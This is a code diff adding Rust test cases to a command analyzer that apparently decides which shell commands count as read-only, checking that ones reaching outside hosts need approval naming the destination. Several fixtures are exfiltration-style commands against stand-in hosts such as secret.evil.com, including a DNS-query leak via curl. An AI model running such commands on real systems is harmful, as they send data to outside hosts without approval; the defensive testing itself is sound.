@@ -163,6 +163,14 @@ fn reads_that_send_outside_need_approval_naming_the_destination() {
             ("ntpq -p evil.com", "evil.com"),
             ("curl -s http://8.8.8.8/dns-query?name=secret.evil.com", "8.8.8.8"),
             ("for h in db01 evil.com; do ping -c1 $h; done", "evil.com"),
+            ("curl --interface secret.evil.com http://localhost/", "secret.evil.com"),
+            ("dig -b secret.evil.com db01", "secret.evil.com"),
+            ("dig @203.0.113.5#53 db01", "203.0.113.5"),
+            ("ping -c1 -I secret.evil.com 10.0.0.1", "secret.evil.com"),
+            ("tcpdump -c 1 -i lo host secret.evil.com", "secret.evil.com"),
+            ("tcpdump -nn -c 5 -i any 'host secret.evil.com and port 443'", "secret.evil.com"),
+            ("resolvectl query secret.evil.com", "secret.evil.com"),
+            ("whois secret.evil.com", "secret.evil.com"),
         ] {
             let a = analyze(cmd);
             assert!(!a.is_read_only(), "{cmd}");
@@ -198,6 +206,11 @@ fn reads_that_send_outside_need_approval_naming_the_destination() {
             "getent passwd deploy",
             "nslookup web01 10.0.0.2",
             "for h in web01 web02; do ping -c 1 -W 1 $h; done",
+            "tcpdump -nn -c 50 -i any host 10.0.0.5",
+            "tcpdump -nn -c 20 -i eth0 'port 443 and host db.internal'",
+            "curl --interface eth0 http://localhost/",
+            "ping -c1 -I eth0 10.0.0.1",
+            "dig @10.0.0.2#5353 db01",
         ] {
             let a = analyze(cmd);
             assert!(a.is_read_only(), "{cmd}: {:?}", a.reasons);
